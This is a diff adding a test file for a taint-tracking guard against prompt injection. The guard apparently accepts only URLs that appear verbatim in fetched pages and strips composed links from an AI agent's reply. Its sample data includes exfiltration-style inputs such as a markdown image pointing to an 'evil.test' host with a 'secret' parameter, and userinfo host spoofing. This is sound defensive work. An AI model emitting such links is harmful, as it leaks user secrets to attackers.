@@ -1,0 +1,52 @@
+import { describe, expect, it } from 'vitest';
+import { verifies } from '../../../../tests/requirements.ts';
+import { RunTaint } from './run-taint.ts';
+import { removeComposedUrls } from './verbatim-urls.ts';
+
+function given(...texts: string[]): RunTaint {
+  const taint = new RunTaint(['web:pages.test']);
+  for (const text of texts) taint.addText(text);
+  return taint;
+}
+
+describe('addresses', () => {
+  verifies('injection/no-effect', 'count as read only if they stand there as a whole', () => {
+    const taint = given(
+      'See https://pages.test/a?b=1, (https://pages.test/b) and [c](https://pages.test/c_(d)).',
+      '{"url":"https:\\/\\/pages.test\\/json"}',
+      'My site is example.com/start',
+    );
+    for (const url of [
+      'https://pages.test/a?b=1',
+      'https://pages.test/a?b=1#part',
+      'https://pages.test/b',
+      'https://pages.test/c_(d)',
+      'https://pages.test/json',
+      'https://example.com/start',
+      'HTTPS://PAGES.test/b',
+    ])
+      expect([url, taint.hasUrl(url)]).toEqual([url, true]);
+    for (const url of [
+      'https://pages.test/a',
+      'https://pages.test/a?b=1&secret=2',
+      'https://pages.test/',
+      'https://secret.pages.test/b',
+      'https://pages.test/b/secret',
+      'https://pages.test@evil.test/b',
+      'https://user:secret@pages.test/b',
+      'http://pages.test/b',
+      'ftp://pages.test/b',
+      'https://example.com/start?secret',
+      'nonsense',
+    ])
+      expect([url, taint.hasUrl(url)]).toEqual([url, false]);
+  });
+
+  it('are listed of a reply, and all others are removed from it', () => {
+    const taint = given('https://pages.test/b');
+    const reply = 'Read https://pages.test/b or ![x](https://evil.test/?secret=1), then https://evil.test/2.';
+    const quoted = taint.findQuotedUrls(reply);
+    expect(quoted).toEqual(['https://pages.test/b']);
+    expect(removeComposedUrls(reply, quoted)).toBe('Read https://pages.test/b or ![x]([link removed]), then [link removed].');
+  });
+});
